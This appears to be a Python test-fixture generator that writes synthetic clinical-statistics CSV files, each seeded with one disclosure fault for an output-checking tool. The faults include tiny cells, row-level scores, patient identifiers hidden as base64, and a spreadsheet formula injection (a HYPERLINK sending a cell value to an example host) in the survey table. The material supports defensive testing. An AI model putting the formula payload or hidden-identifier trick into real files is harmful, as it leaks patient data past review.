"""Tables of models as CSV, open or disguised, each with one fault."""

import base64
import random

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs6.writers import table, text


def write(shelf: Shelf) -> None:
    _models(shelf)
    _disguised(shelf)


def _models(shelf: Shelf) -> None:
    table(
        shelf.unsafe(
            "rare/ols_summary.csv",
            "fewer than 10 residual degrees of freedom",
            "Df Residuals: 7",
            "res.summary().as_csv() of the model of liver stiffness, genotype subgroup",
            "Adults with Wilson disease seen since 2012",
        ),
        [
            ["OLS Regression Results"],
            ["Dep. Variable:", "stiffness_kpa", "R-squared:", "0.842"],
            ["Model:", "OLS", "Adj. R-squared:", "0.684"],
            ["Method:", "Least Squares", "F-statistic:", "5.329"],
            ["No. Observations:", "15", "AIC:", "71.40"],
            ["Df Residuals:", "7", "BIC:", "77.06"],
            ["Df Model:", "7", "Covariance Type:", "nonrobust"],
            ["", "coef", "std err", "t", "P>|t|", "[0.025", "0.975]"],
            ["const", "4.1173", "2.918", "1.411", "0.201", "-2.783", "11.017"],
            ["age_10y", "0.6120", "0.411", "1.489", "0.180", "-0.360", "1.584"],
            ["ceruloplasmin", "-8.2041", "3.620", "-2.266", "0.058", "-16.764", "0.356"],
            ["cu_urine_log", "1.9310", "0.702", "2.751", "0.028", "0.271", "3.591"],
            ["penicillamine", "-0.8812", "0.944", "-0.933", "0.382", "-3.113", "1.351"],
        ],
    )
    table(
        shelf.unsafe(
            "derm/classification_report_fold4.csv",
            "small support of a class",
            "merkel support 7",
            "classification_report(output_dict=True) on the held-out fold, one lesion per patient",
            "1,946 patients with a biopsied lesion, 5 folds",
        ),
        [
            ["", "precision", "recall", "f1-score", "support"],
            ["naevus", 0.91, 0.93, 0.92, 171],
            ["melanoma", 0.84, 0.81, 0.82, 96],
            ["bcc", 0.88, 0.87, 0.87, 81],
            ["scc", 0.76, 0.74, 0.75, 34],
            ["merkel", 0.67, 0.57, 0.62, 7],
            ["accuracy", 0.87, 0.87, 0.87, 0.87],
            ["macro avg", 0.81, 0.78, 0.80, 389],
        ],
    )
    rng = shelf.random("events")
    rows = [["event_at", "removed", "observed", "censored", "entrance", "at_risk"]]
    at_risk, day = 143, 0
    rows.append(["0", "0", "0", "0", "143", "143"])
    for _ in range(46):
        day += rng.randint(4, 19)
        removed = 1 if rng.random() < 0.8 else 2
        died = 1 if rng.random() < 0.6 else 0
        rows.append([str(day), str(removed), str(died), str(removed - died), "0", str(at_risk)])
        at_risk -= removed
    table(
        shelf.unsafe(
            "onco/kmf_event_table.csv",
            "event table with steps of single persons",
            "each row is one or two patients",
            "kmf.event_table after KaplanMeierFitter().fit(T, E), days since first line",
            "143 patients with metastatic pancreatic cancer",
        ),
        rows,
    )
    table(
        shelf.unsafe(
            "urgences/matrice_confusion.csv",
            "small cell in a confusion matrix",
            "réel 1, prédit 5 : 3",
            "Matrice de confusion du modèle de tri (FRENCH), jeu de test, un passage par patient",
            "6 214 passages aux urgences d'adultes",
        ),
        [
            ["réel \\ prédit", "tri 1", "tri 2", "tri 3", "tri 4", "tri 5"],
            ["tri 1", 212, 58, 21, 11, 3],
            ["tri 2", 74, 641, 203, 64, 22],
            ["tri 3", 31, 288, 1744, 391, 108],
            ["tri 4", 14, 71, 402, 968, 187],
            ["tri 5", 12, 19, 84, 201, 385],
        ],
        ";",
    )


def _disguised(shelf: Shelf) -> None:
    rng = shelf.random("shap")
    columns = [f"s{at}" for at in range(1, 61)]
    features = ["age", "creatinine", "nt_probnp", "lvef", "sbp", "sodium", "haemoglobin", "diabetes", "afib", "nyha"]
    rows = [["feature", *columns]]
    rows += [[name, *[f"{rng.gauss(0, 0.3):+.4f}" for _ in columns]] for name in features]
    table(
        shelf.unsafe(
            "heart/shap_global.csv",
            "row-level data, transposed: a column per person",
            "s1 to s60",
            "SHAP values of the readmission model, features in rows",
            "1,402 adults discharged after acute heart failure",
        ),
        rows,
    )
    rows = [["key", "fold", "y_true", "y_score"]]
    for _ in range(90):
        key = f"{rng.getrandbits(40):010x}"
        rows.append([key, str(rng.randrange(5)), str(int(rng.random() < 0.2)), f"{rng.random():.5f}"])
    table(
        shelf.unsafe(
            "heart/oof_for_roc.csv",
            "out-of-fold scores, one row per person",
            "every row",
            "Data behind the ROC curve of figure 2",
            "1,402 adults discharged after acute heart failure",
        ),
        rows,
    )
    table(
        shelf.unsafe(
            "bio/panel_audit.csv",
            "identifiers hidden as base64 in a technical column",
            "column trace decodes to IPPs",
            "Audit of the laboratory mapping: unit conversions per analyte",
            "41,220 results of 3,877 patients",
        ),
        [
            ["analyte", "unit_from", "unit_to", "factor", "results", "trace"],
            *[
                [name, unit, to, factor, n, base64.b64encode(_ipp(rng).encode()).decode()]
                for name, unit, to, factor, n in (
                    ("creatinine", "mg/L", "µmol/L", "8.84", 9204),
                    ("glucose", "g/L", "mmol/L", "5.55", 8716),
                    ("uric acid", "mg/L", "µmol/L", "5.95", 3120),
                    ("calcium", "mg/L", "mmol/L", "0.025", 7033),
                    ("bilirubin", "mg/L", "µmol/L", "1.71", 6418),
                )
            ],
        ],
    )
    table(
        shelf.unsafe(
            "qualite/questionnaire_synthese.csv",
            "formula injection",
            "verbatim type of item 4",
            "Synthèse e-Satis par item : réponses, moyenne, premier thème des verbatims",
            "2 204 répondants au questionnaire e-Satis",
        ),
        [
            ["item", "reponses", "moyenne_sur_5", "theme"],
            ["accueil", 2204, "4,1", "délai d'attente"],
            ["information", 2187, "3,8", "résultats d'examens"],
            ["douleur", 2162, "4,0", "délai de réponse"],
            ["repas", 2175, "3,1", '=HYPERLINK("http://stats.example.net/?r="&B2,"température")'],
            ["sortie", 2140, "3,6", "ordonnances"],
        ],
        ";",
    )
    text(
        shelf.unsafe(
            "pharma/missing_report.csv",
            "persons missing: 6",
            "row ddimer, missing 6",
            "df.isna().sum() before imputation, one row per patient",
            "942 adults with suspected pulmonary embolism",
        ),
        "\n".join(
            [
                "column,missing,share",
                "wells_score,41,4.4%",
                "ddimer,6,0.6%",
                "spo2,18,1.9%",
                "creatinine,27,2.9%",
                "heart_rate,12,1.3%",
                "ctpa_result,114,12.1%",
            ]
        ),
    )


def _ipp(rng: random.Random) -> str:
    return f"80{rng.randrange(10**8):08d}"
